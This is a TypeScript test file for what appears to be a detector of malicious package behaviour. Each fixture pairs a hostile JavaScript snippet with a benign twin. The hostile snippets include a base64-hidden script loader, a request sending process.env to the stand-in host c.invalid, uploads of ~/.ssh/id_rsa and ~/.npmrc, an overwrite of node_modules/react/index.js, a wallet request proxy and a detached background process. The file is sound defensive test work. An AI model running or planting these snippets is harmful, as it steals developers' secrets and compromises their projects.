import { testDeeds, type Deed } from './deeds.ts'

/** What pages, clients, projects and wallets are misused for. */
const DEEDS: readonly Deed[] = [
  {
    name: 'a script whose address is hidden',
    check: 'decode-and-execute',
    code: `const s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9jLmludmFsaWQvYS5qcw=='); document.head.append(s)`,
    twin: `const s = document.createElement('script'); s.src = 'https://c.invalid/a.js'; document.head.append(s)
      const i = new Image(); i.src = atob('aHR0cHM6Ly9jLmludmFsaWQvYS5qcw==')`,
    moments: ['import'],
  },
  {
    name: 'all variables in the address of a picture',
    check: 'secrets-exfiltration',
    code: `new Image().src = 'https://c.invalid/?' + JSON.stringify(process.env)`,
    twin: `new Image().src = 'https://c.invalid/?' + JSON.stringify(process.version)`,
  },
  {
    name: 'a key that a client sends by its path',
    check: 'secrets-exfiltration',
    code: `const c = new (require('ssh2-sftp-client'))()
      c.connect({ host: 'c.invalid' }).then(() => c.fastPut(require('os').homedir() + '/.ssh/id_rsa', '/k'))`,
    twin: `const c = new (require('ssh2-sftp-client'))()
      c.connect({ host: 'c.invalid' }).then(() => c.fastPut(__dirname + '/report.txt', '/k'))`,
  },
  {
    name: 'a key in a command of a client',
    check: 'secrets-exfiltration',
    code: `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3')
      new S3Client({}).send(new PutObjectCommand({ Body: require('fs').readFileSync(require('os').homedir() + '/.npmrc') }))`,
    twin: `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3')
      new S3Client({}).send(new PutObjectCommand({ Body: require('fs').readFileSync(__dirname + '/report.txt') }))`,
  },
  {
    name: 'code of another package in the project',
    check: 'persistence',
    code: `const at = require('path').join(process.cwd(), 'node_modules', 'react', 'index.js')
      require('fs').writeFileSync(at, 'fetch()')`,
    twin: `const at = require('path').join(process.cwd(), 'node_modules', '.cache', 'index.js')
      require('fs').writeFileSync(at, '1')
      exports.patch = () => require('fs').writeFileSync(require('path').join(process.cwd(), 'node_modules', 'react', 'index.js'), '1')`,
    moments: ['import'],
  },
  {
    name: 'a stand-in for what a wallet is asked',
    check: 'spying',
    code: `window.ethereum.request = new Proxy(window.ethereum.request, { apply: (t, s, a) => t.apply(s, a) })`,
    twin: `const request = new Proxy(window.ethereum.request, { apply: (t, s, a) => t.apply(s, a) }); exports.request = request`,
    moments: ['import'],
  },
  {
    name: 'a script of whoever imports it that is left running',
    check: 'opaque-program',
    code: `require('child_process').spawn('node', ['index.js'], { detached: true, stdio: 'ignore' }).unref()`,
    twin: `require('child_process').spawn('node', [__dirname + '/y.js'], { detached: true, stdio: 'ignore' }).unref()
      exports.watch = () => require('child_process').spawn('node', ['index.js'], { detached: true })`,
    files: { 'y.js': 'process.title = "y"' },
    moments: ['import'],
  },
]

testDeeds(DEEDS)
